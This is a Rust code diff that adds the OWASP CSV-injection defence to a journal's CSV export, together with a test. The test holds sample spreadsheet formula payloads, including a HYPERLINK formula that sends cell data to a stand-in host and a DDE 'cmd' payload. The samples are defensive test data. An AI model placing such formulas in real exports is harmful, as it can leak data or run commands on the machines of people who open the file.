@@ -248,7 +248,35 @@ pub enum ExportFormat {
     Csv,
 }
 
-/// `rows` as a JSON array of objects, or as CSV with a header line (RFC 4180 quoting).
+/// A CSV cell a spreadsheet would run as a formula (it starts with `=`, `+`, `-`, `@`, a tab
+/// or a carriage return) gets a leading `'`, the OWASP "CSV injection" defence: a label,
+/// reason or result written by an agent cannot become `=HYPERLINK(…)` or a DDE command when
+/// the export is opened. Other cells are unchanged.
+fn neutralise_formula(cell: String) -> String {
+    if cell.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+        format!("'{cell}")
+    } else {
+        cell
+    }
+}
+
+impl ExportRow {
+    /// The row with every text cell safe to open in a spreadsheet ([`neutralise_formula`]).
+    fn for_spreadsheet(self) -> ExportRow {
+        ExportRow {
+            client: neutralise_formula(self.client),
+            label: neutralise_formula(self.label),
+            tool: neutralise_formula(self.tool),
+            reason: neutralise_formula(self.reason),
+            result: neutralise_formula(self.result),
+            action_id: neutralise_formula(self.action_id),
+            ..self
+        }
+    }
+}
+
+/// `rows` as a JSON array of objects (every value as recorded), or as CSV with a header line
+/// (RFC 4180 quoting; cells that would run as spreadsheet formulas start with `'`).
 pub fn export(rows: &[Recorded], format: ExportFormat) -> Result<Vec<u8>, JournalError> {
     let rows: Vec<ExportRow> = rows.iter().map(ExportRow::of).collect();
     match format {
@@ -259,10 +287,11 @@ pub fn export(rows: &[Recorded], format: ExportFormat) -> Result<Vec<u8>, Journa
         }
         ExportFormat::Csv => {
             let mut w = csv::Writer::from_writer(Vec::new());
-            for r in &rows {
-                w.serialize(r).map_err(|e| JournalError::Export(e.to_string()))?;
+            let empty = rows.is_empty();
+            for r in rows {
+                w.serialize(r.for_spreadsheet()).map_err(|e| JournalError::Export(e.to_string()))?;
             }
-            if rows.is_empty() {
+            if empty {
                 w.write_record([
                     "at",
                     "outcome",
@@ -430,6 +459,49 @@ mod tests {
         let (_d, j) = journal_with(6);
         assert_eq!(j.tools(WS).unwrap(), vec!["ast_edit", "batch_rename_preview", "custom_tool"]);
         assert!(j.tools("/ws/none").unwrap().is_empty());
+    }
+
+    #[test]
+    fn csv_cells_that_a_spreadsheet_would_run_as_formulas_start_with_a_quote_and_json_keeps_them() {
+        let (_d, j) = journal_with(0);
+        let hostile = [
+            "=HYPERLINK(\"http://x.example/?\"&A1,\"click\")",
+            "+1+cmd|' /C calc'!A0",
+            "-2+3",
+            "@SUM(1+1)",
+            "\t=1+1",
+            "\r=1+1",
+        ];
+        for (i, text) in hostile.iter().enumerate() {
+            let mut d = row(i as i64);
+            d.reason = text.to_string();
+            d.label = format!("={i}");
+            j.record(&d).unwrap();
+        }
+        j.record(&Decision { reason: "fine = ok, - also fine".into(), ..row(10) }).unwrap();
+        let page = j.search(WS, &[], &HistoryQuery::default(), 0, 100).unwrap();
+        let csv_bytes = export(&page.rows, ExportFormat::Csv).unwrap();
+        let mut reader = csv::Reader::from_reader(csv_bytes.as_slice());
+        let headers: Vec<String> = reader.headers().unwrap().iter().map(String::from).collect();
+        let col = |name: &str| headers.iter().position(|h| h == name).unwrap();
+        let (mut reasons, mut labels) = (Vec::new(), Vec::new());
+        for r in reader.records().map(Result::unwrap) {
+            reasons.push(r[col("reason")].to_string());
+            labels.push(r[col("label")].to_string());
+        }
+        assert!(labels.contains(&"'=0".to_string()) && labels.contains(&"Action number 10".to_string()), "{labels:?}");
+        for text in hostile {
+            assert!(reasons.contains(&format!("'{text}")), "{text:?} is exported as '{text:?}: {reasons:?}");
+        }
+        assert!(
+            reasons.contains(&"fine = ok, - also fine".to_string()),
+            "a cell that does not start a formula is unchanged"
+        );
+        let json: serde_json::Value = serde_json::from_slice(&export(&page.rows, ExportFormat::Json).unwrap()).unwrap();
+        let json_reasons: Vec<&str> = json.as_array().unwrap().iter().map(|r| r["reason"].as_str().unwrap()).collect();
+        for text in hostile {
+            assert!(json_reasons.contains(&text), "JSON keeps {text:?} exactly as recorded");
+        }
     }
 
     #[test]
